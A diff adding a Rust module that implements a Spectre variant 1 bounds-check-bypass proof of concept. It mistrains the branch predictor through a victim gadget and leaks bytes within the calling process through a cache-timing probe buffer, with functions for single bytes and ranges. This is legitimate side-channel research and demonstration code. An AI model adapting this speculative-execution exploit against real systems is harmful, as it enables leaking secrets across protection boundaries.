@@ -0,0 +1,119 @@
+//! Spectre variant 1, bounds check bypass. The pattern history table learns
+//! that the bounds check of a victim function passes from calls with indices
+//! inside its array, and keeps predicting that for an index far outside of
+//! it, so the victim's array access speculatively reads whatever the index
+//! lands on and leaks it through the probe buffer.
+//!
+//! Nothing is read that the process couldn't read architecturally, the point
+//! is that the victim never does: the bounds check holds for every call that
+//! retires.
+
+use std::io;
+
+use cache::flush;
+use channel::Channel;
+use covert::CovertChannel;
+use probe_buf::ProbeBuffer;
+use reader::{ByteGuess, TIMINGS_PER_GUESS};
+use receiver::Receiver;
+
+// in-bounds calls of the victim before each out-of-bounds one, to keep the
+// predictor trained
+const TRAINING_CALLS: usize = 6;
+
+// attacks voted on per byte, each decoded from TIMINGS_PER_GUESS timings
+const ROUNDS: usize = 16;
+
+const ARRAY_LEN: usize = 16;
+
+// the array the victim guards. its length is a full line before it, so
+// flushing the length to make the bounds check slow leaves the array cached
+#[repr(C)]
+struct Victim {
+    len: usize,
+    _pad: [u8; 56],
+    array: [u8; ARRAY_LEN],
+}
+
+// the gadget: a bounds checked array access whose result picks a line of the
+// probe buffer
+#[inline(never)]
+unsafe fn victim<C: CovertChannel>(victim: &Victim, channel: &C, index: usize) {
+    if index < (&victim.len as *const usize).read_volatile() {
+        channel.encode(0, victim.array.as_ptr().wrapping_add(index).read_volatile())
+    }
+}
+
+/// Reads memory of the calling process through a mistrained bounds check,
+/// receiving through a page per value probe buffer.
+pub struct BoundsCheckBypass {
+    receiver: Receiver,
+    victim: Box<Victim>,
+}
+
+impl BoundsCheckBypass {
+    /// Allocates the probe buffer and the victim's array, and calibrates the
+    /// cache hit threshold.
+    pub fn new() -> io::Result<BoundsCheckBypass> {
+        let channel = Channel::Page;
+        let probe_buf = ProbeBuffer::private(channel.buf_len(), false)?;
+        let receiver = Receiver::new(probe_buf, channel);
+        let mut array = [0; ARRAY_LEN];
+        for (i, byte) in array.iter_mut().enumerate() {
+            *byte = i as u8 + 1
+        }
+        Ok(BoundsCheckBypass {
+            receiver,
+            victim: Box::new(Victim {
+                len: ARRAY_LEN,
+                _pad: [0; 56],
+                array,
+            }),
+        })
+    }
+
+    /// The probe buffer the attack leaks through, and its calibration.
+    pub fn receiver(&self) -> &Receiver {
+        &self.receiver
+    }
+
+    /// Leaks the byte at `addr`, which has to be mapped in this process to
+    /// leak anything, along with how confident the guess is.
+    pub fn guess_byte(&self, addr: *const u8) -> ByteGuess {
+        let victim_ref = &*self.victim;
+        let len = &victim_ref.len as *const usize as *const u8;
+        let index = (addr as usize).wrapping_sub(victim_ref.array.as_ptr() as usize);
+        let mut order = self.receiver.order();
+        let mut channel = self.receiver.channel(&mut order);
+
+        let mut hit_counts = [0usize; 256];
+        for round in 0..ROUNDS {
+            for timing in 0..TIMINGS_PER_GUESS {
+                unsafe {
+                    for call in 0..TRAINING_CALLS {
+                        flush(len);
+                        victim(victim_ref, &channel, (round + timing + call) % ARRAY_LEN);
+                    }
+                    // the training calls cached the lines of the array's
+                    // values, only the attack's line may be left
+                    channel.prepare(1);
+                    flush(len);
+                    victim(victim_ref, &channel, index);
+                    channel.receive(1);
+                }
+            }
+            if let Some(byte) = channel.decode(1)[0] {
+                hit_counts[byte as usize] += 1
+            }
+        }
+        ByteGuess::from_hit_counts(&hit_counts, ROUNDS)
+    }
+
+    /// Leaks `len` bytes starting at `addr`, along with how confident each
+    /// guess is.
+    pub fn guess_range(&self, addr: *const u8, len: usize) -> Vec<ByteGuess> {
+        (0..len)
+            .map(|i| self.guess_byte(addr.wrapping_add(i)))
+            .collect()
+    }
+}